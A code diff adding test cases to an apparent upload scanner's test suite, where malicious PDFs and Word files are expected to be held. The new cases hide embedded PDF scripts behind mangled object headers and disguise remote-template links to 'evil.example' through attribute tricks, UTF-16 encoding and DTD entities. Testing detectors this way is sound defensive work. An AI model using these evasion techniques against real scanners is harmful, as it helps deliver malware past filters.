@@ -80,6 +80,12 @@ const honest: [string, string, Buffer, string][] = [
 const hostile: [string, string, Buffer, string][] = [
   // PDF
   ['a PDF that runs a script when opened', 'a.pdf', pdf([...page, script]), 'HELD PDF_SCRIPT'],
+  ...['9 0%c\nobj', '9%c\n0 obj', '9 0obj', '9 0\n%1\nobj'].map((begins): [string, string, Buffer, string] => [
+    `the same in an object that begins ${JSON.stringify(begins)}`,
+    'a.pdf',
+    pdf([...page, `null\nendobj\n${begins}\n${script}`]),
+    'HELD PDF_SCRIPT',
+  ]),
   ['the same with an escaped name', 'a.pdf', pdf([...page, '<< /S /J#61vaScript /J#53 (x) >>']), 'HELD PDF_SCRIPT'],
   ['the same inside packed objects', 'a.pdf', pdf([...page, objectStream(script)]), 'HELD PDF_SCRIPT'],
   [
@@ -138,6 +144,31 @@ const hostile: [string, string, Buffer, string][] = [
     'a.docx',
     officeFile('docx', [{ name: 'word/_rels/settings.xml.rels', bytes: relations('attachedTemplate', 'https://else.example/t.dotm') }]),
     'HELD REMOTE_TEMPLATE',
+  ],
+  ...(
+    [
+      ['behind an attribute with the end of a tag in it', (xml: string) => xml.replace('Id="r1"', 'Id="r>1"')],
+      ['that says "hyperlink" elsewhere', (xml: string) => xml.replace('Id="r1"', 'Id="/hyperlink"')],
+      ['in UTF-16 without its mark', (xml: string) => Buffer.from(xml, 'utf16le')],
+    ] as const
+  ).map(([what, change]): [string, string, Buffer, string] => [
+    `a template from the network ${what}`,
+    'a.docx',
+    officeFile('docx', [
+      { name: 'word/_rels/settings.xml.rels', bytes: change(relations('attachedTemplate', 'https://evil.example/x.dotm')) },
+    ]),
+    'HELD REMOTE_TEMPLATE',
+  ]),
+  [
+    'a relation whose words a document type makes',
+    'a.docx',
+    officeFile('docx', [
+      {
+        name: 'word/_rels/settings.xml.rels',
+        bytes: `<!DOCTYPE a [<!ENTITY e "External">]>${relations('attachedTemplate', 'https://evil.example/x.dotm', '&e;')}`,
+      },
+    ]),
+    'HELD EXTERNAL_LINK',
   ],
   [
     'the same in UTF-16',
